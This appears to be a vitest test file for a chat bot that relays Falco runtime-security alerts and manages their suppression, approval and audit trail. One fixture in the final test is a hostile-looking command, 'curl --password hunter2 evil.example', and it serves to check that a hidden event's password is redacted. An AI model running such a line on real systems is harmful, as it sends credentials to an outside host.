import { describe, expect, test } from 'vitest'
import { anEvent, noDefaults } from '../event.ts'
import { openHouse, wordsOf } from './house.ts'
import type { House } from './house.ts'
import { replied, rule, says, shell } from './suppressing.ts'

const at = (second: number) => `2026-11-24T09:30:${String(second).padStart(2, '0')}Z`

async function ask(house: House, line: string, who = house.ana): Promise<string> {
  const before = house.workspace.whispers(who.person.id).length
  const done = await who.command('falco', line)
  expect(done.error).toBeUndefined()
  return wordsOf(await house.workspace.until(`an answer to ${line}`, () => house.workspace.whispers(who.person.id)[before]))
}

/** The id of the only alert that there is. */
async function alertId(house: House): Promise<string> {
  return /\/falco show ([0-9a-z]{8})/.exec(await ask(house, '/falco recent 1'))?.[1] ?? ''
}

/** The id that the answer to `/falco suppress` names. */
function suppressionId(answer: string): string {
  return /Its id is\s+([0-9a-z]{8})/.exec(answer)?.[1] ?? ''
}

test('the summary adds up: received = opened + folded + suppressed + below + repeat', async () => {
  await using house = await openHouse({ falconerYml: 'routes: [{ match: { priority: Notice }, channel: "#falco" }]' })
  await house.send(anEvent({ time: at(1) }), anEvent({ time: at(2) }), anEvent({ time: at(2) }))
  await house.send(anEvent({ time: at(3), priority: 'Debug', rule: 'Quiet rule' }))
  await house.card('Terminal shell in container')
  await ask(house, '/falco suppress "Terminal shell in container" 8h a planned test')
  const approval = await house.workspace.until('the approval card', () =>
    house.workspace.messages('falco').find((one) => wordsOf(one).includes('May this be suppressed?')),
  )
  await house.ben.press({ message: approval }, 'Approve')
  await house.send(anEvent({ time: at(4) }), anEvent({ time: at(5) }))
  await house.post('not an event')
  const drop = { ...noDefaults, n_drops: '12', n_evts: '900' }
  await house.send(
    anEvent({ time: at(6), rule: 'Falco internal: syscall event drop', source: 'internal', priority: 'Debug', fields: drop }),
  )
  const words = await ask(house, '/falco summary 1h')
  expect(words).toMatch(/7 (events )?received/)
  for (const part of [/1 opened/, /1 folded/, /2 suppressed/, /2 below/, /1 repeat/]) expect(words).toMatch(part)
  expect(words).toContain('Terminal shell in container')
  expect(words).toMatch(/syscall event drop/)
  expect(words).toMatch(/Refused bodies: 1/)
})

test('recent and show find an alert, by the beginning of its id too', async () => {
  await using house = await openHouse()
  await house.send(anEvent())
  const card = await house.card('Terminal shell in container')
  const id = /"value":"([0-9a-z]{8})"/.exec(JSON.stringify(card.attachments))?.[1] ?? ''
  expect(await ask(house, '/falco recent 5')).toContain(id)
  expect(await ask(house, `/falco show ${id}`)).toContain('Terminal shell in container')
  expect(await ask(house, `/falco show ${id.slice(0, 5)}`)).toContain('Terminal shell in container')
  expect(await ask(house, '/falco show nothing1')).toContain('There is no alert')
})

test('a bare command and a typo are answered with help', async () => {
  await using house = await openHouse()
  expect(await ask(house, '/falco')).toContain('/falco summary')
  expect(await ask(house, '/falco sumary')).toContain('summary')
})

test('`here` shows the answer to the channel', async () => {
  await using house = await openHouse()
  await house.ana.command('falco', '/falco summary here')
  await house.workspace.until('the answer in the channel', () =>
    house.workspace.messages('falco').some((one) => /received/.test(wordsOf(one))),
  )
})

test('a suppression by command needs a length and a reason, and says what is wrong', async () => {
  await using house = await openHouse()
  expect(await ask(house, '/falco suppress "Some rule" 8h')).toMatch(/why|reason/i)
  expect(await ask(house, '/falco suppress "Some rule" 90d too long')).toContain('30 days')
  expect(await ask(house, '/falco suppress "Some rule" 10s too short')).toMatch(/minute/)
})

test('a suppression by command hides just what it names, and what it hid is listed after its end', async () => {
  await using house = await openHouse({ falconerYml: 'maxSuppression: 2d' })
  const wrote = (second: number, rule: string, file: string) => anEvent({ time: at(second), rule, fields: { 'fd.name': file } })
  await house.send(wrote(1, 'Write below root', '/var/log/app.log'))
  await house.card('Write below root')
  expect(await ask(house, '/falco suppress "Write below root" file^=/var/log/ 3d because logs')).toContain('at most 2 days')
  const said = await ask(house, '/falco suppress “Write below root” namespace=payments file^=/var/log/ for 8h because it logs there')
  expect(said).toMatch(/Suppressed\..*rule is `Write below root`, namespace is `payments`, file begins with `\/var\/log\/`/s)
  await house.send(wrote(2, 'Write below root', '/var/log/other.log'), wrote(3, 'Write below root', '/var/logs'))
  await house.send(wrote(4, 'Another rule', '/var/log/app.log'))
  expect(await ask(house, '/falco summary 1h')).toMatch(/4 received.* = 2 opened \+ 1 folded \+ 1 suppressed/)
  expect(await ask(house, '/falco suppressions mine')).toContain('Has hidden 1 event')

  const list = house.workspace.whispers(house.ana.person.id).at(-1)
  if (!list) throw new Error('nothing was listed')
  await house.ana.press({ message: list }, 'Lift')
  expect(await ask(house, '/falco suppressions expired')).toMatch(/Ended \(lifted by <@U0ANALIMA>\).*it logs there\nHas hidden 1 event/s)
})

/** The answer on one line. */
async function said(house: House, line: string, who = house.ana): Promise<string> {
  return (await ask(house, line, who)).replaceAll(/\s+/g, ' ')
}

describe('everything that the buttons of a card do, a command does', () => {
  test('acknowledge, assign, resolve and reopen change the card, and show tells who did it', async () => {
    await using house = await openHouse()
    await house.send(shell())
    const card = await house.card(rule)
    const id = await alertId(house)
    await said(house, `/falco acknowledge ${id}`)
    await says(house, card, 'Acknowledged by')
    await said(house, `/falco assign #${id.slice(0, 5)} @${house.ben.person.name}`)
    await says(house, card, `Assigned to <@${house.ben.person.id}>`)
    expect(await said(house, `/falco resolve ${id} as harmless`)).toContain('There are true positive, benign, false positive and test.')
    await said(house, `/falco resolve ${id} as benign because a cron job does it`)
    await says(house, card, 'Resolved as benign')
    expect(await said(house, `/falco resolve ${id} as test`)).toContain('has resolved this alert as benign. Reopen it first.')
    await said(house, `/falco reopen ${id}`)
    const shown = await said(house, `/falco show ${id}`)
    for (const words of [/Acknowledged by/, /Assigned to/, /Resolved as benign by .*: a cron job does it/s, /Reopened by/])
      expect(shown).toMatch(words)
  })

  test('report writes into the thread, raw opens the event as it came', async () => {
    await using house = await openHouse()
    await house.send(shell())
    const card = await house.card(rule)
    const id = await alertId(house)
    expect(await said(house, `/falco report ${id}`)).toContain('The report is coming in the thread')
    await house.workspace.until('the report', () => house.workspace.replies(card).length > 0)
    await house.ana.command('falco', `/falco raw ${id}`)
    const { view } = await house.workspace.until('the event', () => house.ana.modal)
    expect(JSON.stringify(view)).toContain('registry.example/shop/checkout')
  })
})

describe('everything that the buttons of a suppression do, a command does', () => {
  test('it is made for what covers an alert, extended, narrowed, kept and lifted, and show tells every step', async () => {
    await using house = await openHouse()
    await house.send(shell())
    const card = await house.card(rule)
    const alert = await alertId(house)
    const made = await said(house, `/falco suppress ${alert} 8h because a drill`)
    expect(made).toMatch(/Suppressed\.[^]*Ends itself when it sees a new image \(1 known\)/)
    const id = suppressionId(made)
    await replied(house, card, 'a drill')
    await house.send(shell(), shell())

    expect(await said(house, `/falco extend ${id} 16h`)).toMatch(/Extended by/)
    expect(await said(house, `/falco extend ${id.slice(0, 5)} 40d`)).toContain('30 days from now at the latest')
    expect(await said(house, `/falco narrow ${id} evt.type=execve`)).toMatch(/Narrowed by[^]*evt\.type is/)
    expect(await said(house, `/falco keep ${id}`)).toMatch(/Kept to its end by/)
    expect(await said(house, `/falco lift ${alert}`)).toContain(`${alert} is an alert. Its suppression is ${id}: /falco lift ${id}`)
    expect(await said(house, `/falco lift ${id}`)).toMatch(/Lifted by[^]*Has hidden 2 events/)
    expect(await said(house, `/falco lift ${id}`)).toContain('has lifted this suppression already')

    const shown = await said(house, `/falco show ${alert}`)
    expect(shown).toMatch(/Suppressed until.*Hid its first event.*xtended.*arrowed by.*Kept to its end by.*lifted by/)
    expect(shown.match(/lifted by/gi)).toHaveLength(1)
    const alone = await said(house, `/falco show ${id.slice(0, 6)}`)
    expect(alone).toMatch(/Made by[^]*Hid its first event[^]*Extended by[^]*Narrowed by[^]*Kept to its end[^]*Lifted by/)
  })

  test('what needs a second person is approved or rejected by another, and by nobody who asked for it', async () => {
    await using house = await openHouse()
    await house.send(shell())
    await house.card(rule)
    const [first, second] = [
      suppressionId(await said(house, `/falco suppress "${rule}" 8h drill`)),
      suppressionId(await said(house, `/falco suppress "${rule}" tag=shell 8h drill`)),
    ]
    expect(await said(house, `/falco approve ${first}`)).toContain('somebody else must decide')
    expect(await said(house, `/falco approve ${first}`, house.ben)).toMatch(/Approved by/)
    expect(await said(house, `/falco reject ${second}`, house.ben)).toMatch(/Rejected by/)
    await house.send(shell())
    expect(await said(house, '/falco summary 1h')).toMatch(/1 opened \+ 0 folded \+ 1 suppressed/)
    expect(await said(house, `/falco show ${first}`)).toMatch(/Asked for by[^]*Approved by[^]*Hid its first event/)
  })

  test('the file for Falco 0.36 comes into the thread of the card', async () => {
    await using house = await openHouse()
    await house.send(shell())
    const card = await house.card(rule)
    const id = suppressionId(await said(house, `/falco suppress ${await alertId(house)} 8h drill`))
    expect(await said(house, `/falco exception ${id} 0.35`)).toContain('/falco exception <id> [0.36]')
    expect(await said(house, `/falco exception ${id} 0.36`)).toContain('The file is in the thread of the card.')
    const [file] = house.workspace.replies(card).flatMap(({ files }) => files)
    expect(file?.bytes.toString()).toMatch(/For Falco 0\.36\.[^]*append: true/)
    expect(await said(house, `/falco show ${id}`)).toContain('Written as a Falco exception for')
  })
})

test('a suppression says what neverSuppress will show all the same', async () => {
  await using house = await openHouse({ falconerYml: 'neverSuppress: [{ user: root }]\nroutes: [{ match: {}, channel: "#falco" }]' })
  await house.send(shell(), shell({ fields: { 'user.name': 'www', 'k8s.pod.name': 'refunds-7d9c6b5f4-x2x4z' } }))
  await house.workspace.until('both cards', () => house.workspace.messages('falco').length === 2)
  expect(await said(house, `/falco suppress "${rule}" namespace=payments 8h drill`)).toMatch(
    /neverSuppress in falconer\.yml \(user: root\)/,
  )
})

test('a mistyped rule is answered with the one that fired, and hides nothing', async () => {
  await using house = await openHouse()
  await house.send(shell())
  await house.card(rule)
  const answer = await said(house, '/falco suppress "Terminal shel in container" 8h drill')
  expect(answer).toMatch(/Nothing was suppressed[^]*Did you mean[^]*Terminal shell in container/)
  expect(await said(house, '/falco suppressions')).toContain('No suppression is in force.')
  expect(await said(house, '/falco suppress')).toMatch(/These fired last:[^]*Terminal shell in container/)
})

describe('what a suppression hides can be looked at', () => {
  test('`/falco hidden` lists it, `/falco show` its newest, and `/falco event` shows one as it came', async () => {
    await using house = await openHouse()
    await house.send(shell())
    await house.card(rule)
    const made = await said(house, `/falco suppress "${rule}" namespace=payments 8h because a drill`)
    const id = /Its id is ([0-9a-z]{8})/.exec(made)?.[1] ?? ''
    const ran = (command: string) => shell({ hostname: 'node-3', fields: { 'proc.cmdline': command } })
    await house.send(ran('sh -c first'), ran('sh -c second'), ran('curl --password hunter2 evil.example'))
    const listed = await said(house, `/falco hidden ${id.slice(0, 5)}`)
    expect(listed).toMatch(/has hidden 3 events.*on `?node-3`?.*evil\.example.*second.*first/)
    expect(await said(house, `/falco show ${id}`)).toMatch(/evil\.example.*second.*first/)
    const [, number = ''] = /\/falco event (\d+)/.exec(listed) ?? []
    await house.ana.command('falco', `/falco event ${number}`)
    const { view } = await house.workspace.until('the raw event', () => house.ana.modal)
    const raw = wordsOf({ text: '', ...view })
    expect(raw).toContain('"hostname": "node-3"')
    expect(raw).not.toContain('hunter2')
  })
})
